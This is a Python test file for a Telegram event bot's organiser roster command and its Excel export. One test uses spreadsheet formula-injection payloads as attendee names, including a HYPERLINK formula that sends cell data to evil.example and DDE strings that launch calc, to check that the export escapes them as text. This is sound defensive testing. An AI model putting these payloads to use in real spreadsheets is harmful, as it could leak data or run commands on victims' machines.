"""/attendees for organisers: events as buttons, overbooking flagged, a spreadsheet Excel opens as written."""

from __future__ import annotations

import io
import sqlite3
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
from openpyxl.cell.cell import TYPE_STRING

from bot.domain.agenda_file import parse_agenda
from bot.render.i18n import translator
from bot.render.rosters import roster_choice, roster_view
from storage import Database
from storage.migrations import MIGRATIONS
from storage.records import EventSeats, Participant, Registration
from storage.registrations import RosterEntry
from tests.conftest import ORGANISER
from tests.harness import EXAMPLE, Harness

WORKSHOP = "collaborative-services"
MIKE, GIULIA, ANNA, LUCA = 601, 602, 603, 604


async def _workshop_with(bot: Harness, capacity: int | None) -> list:
    events = [replace(e, capacity=capacity) if e.slug == WORKSHOP else e
              for e in parse_agenda(EXAMPLE.read_text(encoding="utf-8"))]
    await bot.services.agenda.apply(events)
    return events


async def _sign_up(bot: Harness, person: int, name: str, language: str = "en", city: str = "Baltimore",
                   username: str | None = None) -> None:
    bot.person(person, name, language, username=username) if username else bot.person(person, name, language)
    await bot.send(person, "/start")
    await bot.press(person, "✅")
    await bot.press(person, city)
    await bot.send(person, f"/start e_{WORKSHOP}")
    await bot.press_data(person, f"signup:{WORKSHOP}")


def _buttons(bot: Harness, user_id: int) -> list[dict]:
    return [b for row in bot.last(user_id).keyboard for b in row]


def _sheet(bot: Harness):
    name, content = bot.telegram.calls_to("sendDocument")[-1].files["document"]
    assert name.endswith(".xlsx")
    return openpyxl.load_workbook(io.BytesIO(content)).active


async def test_attendees_without_a_code_offers_the_events_as_buttons(bot: Harness) -> None:
    await _workshop_with(bot, 5)
    await bot.onboard(ORGANISER, "Olga", "en", "Baltimore")
    await _sign_up(bot, MIKE, "Mike", username="mike_b")
    await bot.send(ORGANISER, "/attendees")
    assert "Choose an event to see who is coming." in bot.last(ORGANISER).text
    buttons = _buttons(bot, ORGANISER)
    assert len(buttons) == 8 and all(b["callback_data"].startswith("roster:") for b in buttons)
    assert next(b for b in buttons if b["callback_data"] == f"roster:{WORKSHOP}")["text"].endswith("· 1/5")
    await bot.press(ORGANISER, "Workshop")
    summary = bot.telegram.chat(ORGANISER)[-2].text
    assert "Confirmed: 1 of 5 seats · waiting list: 0" in summary and "1. Mike (@mike_b)" in summary
    assert bot.telegram.calls_to("sendDocument")[-1].params["chat_id"] == ORGANISER
    assert _sheet(bot)["C2"].value == "Mike"
    # Back to the list, on the same message.
    await bot.press(ORGANISER, "All events")
    assert "Choose an event" in bot.telegram.chat(ORGANISER)[-2].text
    # The slug still works, and an unknown one offers the buttons.
    await bot.send(ORGANISER, f"/attendees {WORKSHOP.upper()}")
    assert "1. Mike" in bot.telegram.chat(ORGANISER)[-2].text
    await bot.send(ORGANISER, "/attendees nothing-here")
    assert "There is no event with the code nothing-here." in bot.last(ORGANISER).text
    assert len(_buttons(bot, ORGANISER)) == 8


async def test_a_stakeholder_gets_a_polite_no_for_the_list_and_for_a_forged_button(agenda_bot: Harness) -> None:
    bot = agenda_bot
    await bot.onboard(MIKE, "Mike", "en", "Baltimore")
    await bot.send(MIKE, "/attendees")
    assert "only the organizers of the exchange can see who is coming" in bot.last(MIKE).text
    assert bot.last(MIKE).keyboard == []
    await bot.send(MIKE, "/agenda")
    agenda = bot.last(MIKE)
    for forged in (f"roster:{WORKSHOP}", "rosters"):
        await bot.press_data(MIKE, forged, agenda.message_id)
        answer = bot.telegram.calls_to("answerCallbackQuery")[-1].params
        assert answer["show_alert"] and "only the organizers" in answer["text"]
    assert bot.telegram.calls_to("sendDocument") == []
    assert bot.telegram.chat(MIKE)[-1].text == agenda.text, "the refusal must not overwrite the agenda"


async def test_an_overbooked_event_is_flagged_in_both_languages(bot: Harness) -> None:
    events = await _workshop_with(bot, 3)
    for person, name in ((MIKE, "Mike"), (GIULIA, "Giulia"), (ANNA, "Anna")):
        await _sign_up(bot, person, name)
    await bot.services.agenda.apply([replace(e, capacity=1) if e.slug == WORKSHOP else e for e in events])
    await bot.onboard(ORGANISER, "Olga", "it")
    await bot.send(ORGANISER, "/attendees")
    assert "⚠️ indica un evento con più persone confermate che posti." in bot.last(ORGANISER).text
    flagged = [b["text"] for b in _buttons(bot, ORGANISER) if b["text"].startswith("⚠️")]
    assert len(flagged) == 1 and flagged[0].endswith("· 3/1")
    await bot.press(ORGANISER, "⚠️")
    summary = bot.telegram.chat(ORGANISER)[-2].text
    assert "Confermati: 3 su 1 posto" in summary
    assert "ci sono 2 persone confermate in più rispetto ai posti" in summary
    await bot.services.agenda.apply([replace(e, capacity=2) if e.slug == WORKSHOP else e for e in events])
    await bot.services.people.set_language(ORGANISER, "en")
    await bot.send(ORGANISER, f"/attendees {WORKSHOP}")
    summary = bot.telegram.chat(ORGANISER)[-2].text
    assert "Confirmed: 3 of 2 seats" in summary and "1 more person is confirmed than there are seats" in summary


async def test_counts_use_plural_forms(bot: Harness) -> None:
    await _workshop_with(bot, 1)
    await _sign_up(bot, MIKE, "Mike")
    await bot.onboard(ORGANISER, "Olga", "en", "Baltimore")
    await bot.send(ORGANISER, f"/attendees {WORKSHOP}")
    assert "Confirmed: 1 of 1 seat · waiting list: 0" in bot.telegram.chat(ORGANISER)[-2].text
    await bot.services.people.set_language(ORGANISER, "it")
    await bot.send(ORGANISER, f"/attendees {WORKSHOP}")
    assert "Confermati: 1 su 1 posto · in lista d'attesa: 0" in bot.telegram.chat(ORGANISER)[-2].text


async def test_the_spreadsheet_keeps_every_name_as_text_and_times_as_dates(bot: Harness) -> None:
    await _workshop_with(bot, 3)
    tricky = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
              "-1+2"]
    for person, name in zip((MIKE, GIULIA, ANNA, LUCA), tricky, strict=True):
        await _sign_up(bot, person, name, "it" if person == GIULIA else "en",
                       "Torino" if person == GIULIA else "Baltimore", username="anna_t" if person == ANNA else None)
    await bot.onboard(ORGANISER, "Olga", "it")
    await bot.send(ORGANISER, f"/attendees {WORKSHOP}")
    sheet = _sheet(bot)
    header = [c.value for c in sheet[1]]
    assert header == ["Stato", "Posizione in lista d'attesa", "Nome", "Nome utente Telegram", "Lingua", "Città",
                      "Data di iscrizione (ora di Torino)", "Presenza registrata (ora di Torino)", "Senza prenotazione"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [r[2].value for r in rows] == tricky
    for row in rows:
        for cell in row[:6]:
            assert cell.value is None or isinstance(cell.value, int) or cell.data_type == TYPE_STRING, cell
    assert all(r[2].data_type == TYPE_STRING and r[2].quotePrefix for r in rows)
    assert [r[3].value for r in rows] == [None, None, "@anna_t", None]
    assert [(r[0].value, r[1].value) for r in rows] == [("confermata", None)] * 3 + [("lista d'attesa", 1)]
    assert [r[4].value for r in rows] == ["inglese", "italiano", "inglese", "inglese"]
    assert [r[5].value for r in rows] == ["Baltimora", "Torino", "Baltimora", "Baltimora"]
    signed_up = rows[0][6]
    # 09:00 UTC on 11 January is 10:00 in Turin, the workshop's city.
    assert signed_up.is_date and signed_up.value == datetime(2027, 1, 11, 10, 0)
    assert signed_up.number_format == "yyyy-mm-dd hh:mm"
    for column, letter in enumerate("ABCDEFG"):
        width = sheet.column_dimensions[letter].width
        assert width >= min(len(str(header[column])), 58), (letter, width)
    assert sheet.column_dimensions["C"].width >= len(tricky[0])
    # And in English for an organiser from Baltimore: the header still names the event's city.
    await bot.services.people.set_language(ORGANISER, "en")
    await bot.send(ORGANISER, f"/attendees {WORKSHOP}")
    sheet = _sheet(bot)
    assert [c.value for c in sheet[1]][6] == "Signed up at (Turin time)"
    assert [r[4].value for r in sheet.iter_rows(min_row=2)] == ["English", "Italian", "English", "English"]


async def test_the_username_is_kept_from_consent_and_follows_changes(bot: Harness) -> None:
    people = bot.services.people
    bot.person(MIKE, "Mike", "en", username="mike_b")
    await bot.send(MIKE, "/start")
    assert (await people.get(MIKE)).username is None, "nothing but the id and language before consent"
    await bot.press(MIKE, "✅")
    assert (await people.get(MIKE)).username == "mike_b"
    bot.person(MIKE, "Mike", "en", username="mike_baltimore")
    await bot.send(MIKE, "/my")
    assert (await people.get(MIKE)).username == "mike_baltimore"
    bot.person(MIKE, "Mike", "en")
    await bot.send(MIKE, "/my")
    assert (await people.get(MIKE)).username is None
    async with bot.services.db.serialized() as tx:
        assert (await tx.participants.get(MIKE)).username is None
    await people.forget(MIKE)
    assert await people.get(MIKE) is None


async def test_a_database_from_before_usernames_gets_the_column(tmp_path: Path) -> None:
    path = tmp_path / "old.db"
    before = next(n for n, m in enumerate(MIGRATIONS) if "username" in m.sql)
    with sqlite3.connect(path) as connection:
        for migration in MIGRATIONS[:before]:
            connection.executescript(migration.sql)
        connection.execute("INSERT INTO participant (telegram_id, created_at, updated_at) VALUES (7, 'x', 'x')")
        connection.execute(f"PRAGMA user_version = {before}")
    db = await Database.open(path)
    try:
        async with db.serialized() as tx:
            assert (await tx.participants.get(7)).username is None
        assert await db.schema_version() == len(MIGRATIONS)
    finally:
        await db.close()


def test_a_long_roster_fits_one_message_and_points_to_the_file() -> None:
    event = replace(parse_agenda(EXAMPLE.read_text(encoding="utf-8"))[0], capacity=80)
    moment = datetime(2027, 1, 11, 9, 0, tzinfo=UTC)
    roster = []
    for n in range(1, 121):
        confirmed = n <= 80
        registration = Registration(n, 1, n, "confirmed" if confirmed else "waitlisted", None if confirmed else n,
                                    moment, moment)
        person = Participant(n, "it", f"{n} " + "Giovanna Maria Fiorentino de' Medici " * 3, username=f"person_{n}")
        roster.append(RosterEntry(registration, person, None if confirmed else n - 80))
    for language in ("it", "en"):
        text, _ = roster_view(translator(language), EventSeats(event, 80, 40), roster)
        assert len(text) <= 4096
        assert text.endswith(translator(language)._("The file below has everyone."))
        assert "1. 1 Giovanna" in text
    text, _ = roster_view(translator("en"), EventSeats(event, 2, 1), roster[78:81])
    assert "The file below has everyone." not in text and "1. 81 Giovanna" in text


def test_more_events_than_a_keyboard_holds_keep_to_telegrams_limit() -> None:
    event = parse_agenda(EXAMPLE.read_text(encoding="utf-8"))[0]
    events = [EventSeats(replace(event, slug=f"event-{n}"), 0, 0) for n in range(120)]
    text, rows = roster_choice(translator("it"), events)
    assert len(rows) == 100 and "scrivi /attendees seguito dal codice dell'evento" in text
    text, rows = roster_choice(translator("en"), events[:3])
    assert len(rows) == 3 and "/attendees" not in text
